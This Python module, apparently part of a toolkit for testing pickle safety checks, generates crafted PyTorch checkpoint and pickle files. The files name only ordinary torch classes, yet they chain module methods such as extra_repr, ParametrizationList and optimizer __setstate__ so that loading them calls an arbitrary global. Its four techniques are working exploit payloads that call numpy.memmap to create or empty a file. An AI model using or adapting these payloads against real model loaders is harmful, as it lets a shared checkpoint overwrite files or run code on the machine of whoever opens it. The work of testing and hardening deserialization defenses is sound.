"""Files that name nothing but what torch's own checkpoints name. The classes are
harmless to make; their methods call what the state put into their attributes.

str(module) calls module.extra_repr(); a ParametrizationList calls its first
module with originals; together they call any global with any arguments. Of the
harmless globals numpy.memmap creates, or empties, a file of any name."""

from .kit import BUILD, EMPTY_DICT, FALSE, NONE, STOP, TRUE, call, dic, made, name, num, proto, technique, text, tup
from .ziptricks import torch_zip

MEMMAP = name("numpy", "memmap")
ARGUMENTS = (text("marker"), text("u1"), text("w+"), num(0), tup(num(1)))


def module(cls, attributes, modules=()):
    """An nn.Module by its class, with attributes and submodules."""
    own = []
    for key in (
        "_parameters",
        "_buffers",
        "_forward_hooks",
        "_forward_pre_hooks",
        "_backward_hooks",
        "_backward_pre_hooks",
        "_forward_hooks_with_kwargs",
        "_forward_pre_hooks_with_kwargs",
        "_forward_hooks_always_called",
    ):
        own += [text(key), EMPTY_DICT]
    own += [text("_modules"), dic(*modules) if modules else EMPTY_DICT, text("training"), TRUE, text("_is_full_backward_hook"), NONE]
    return made(*cls, dic(*own, *attributes))


def caller(function, arguments):
    """An object that calls function with arguments when it is called with none."""
    originals = [x for i, a in enumerate(arguments) for x in (text(f"original{i}"), a)]
    return module(
        ("torch.nn.utils.parametrize", "ParametrizationList"),
        [text("is_tensor"), FALSE, text("ntensors"), num(len(arguments)), *originals],
        [text("0"), function],
    )


@technique("module-extra-repr", "str() of a module whose extra_repr is another module that calls numpy.memmap", "torch", own=True)
def extra_repr():
    evil = module(("torch.nn.modules.linear", "Linear"), [text("extra_repr"), caller(MEMMAP, ARGUMENTS)])
    data = proto(2) + call("builtins", "str", evil) + STOP
    return {"": data, "pickle": ("pickle", data), "zip": torch_zip(data)}


@technique(
    "module-iterated", "list() of a module list, which walks _modules.values(): an attribute of the file's choosing", "torch", own=True
)
def iterated():
    def by(module_, function):
        values = module(("torch.nn.modules.container", "ModuleDict"), [text("values"), caller(MEMMAP, ARGUMENTS)])
        evil = made("torch.nn.modules.container", "ModuleList", dic(text("_modules"), values, text("training"), TRUE))
        return proto(2) + call(module_, function, evil) + STOP

    return {
        "list": by("builtins", "list"),
        "set": by("builtins", "set"),
        "size": by("torch", "Size"),
        "deque": by("collections", "deque"),
        "bytes": by("collections", "Counter"),
    }


@technique("optimizer-state", "an optimizer's __setstate__ calls methods of what its state holds", "torch", own=True)
def optimizer():
    get_values = module(("torch.nn.modules.linear", "Identity"), [text("values"), caller(MEMMAP, ARGUMENTS)])
    state = dic(text("state"), get_values, text("param_groups"), b"]", text("defaults"), EMPTY_DICT)
    data = proto(2) + made("torch.optim.adagrad", "Adagrad", state) + STOP
    return {"": data, "zip": torch_zip(data)}


@technique("parameter-setstate", "a parameter's state puts a __setstate__ on it, which BUILD calls", "torch", own=True)
def parameter():
    tensor = call("torch._utils", "_rebuild_meta_tensor_no_storage", name("torch", "float32"), tup(num(1)), tup(num(1)), FALSE)
    evil = module(("torch.nn.modules.linear", "Linear"), [text("extra_repr"), caller(MEMMAP, ARGUMENTS)])
    state = dic(text("__setstate__"), name("builtins", "str"))
    return (
        proto(2)
        + call("torch._utils", "_rebuild_parameter_with_state", tensor, FALSE, call("collections", "OrderedDict"), state)
        + evil
        + BUILD
        + STOP
    )
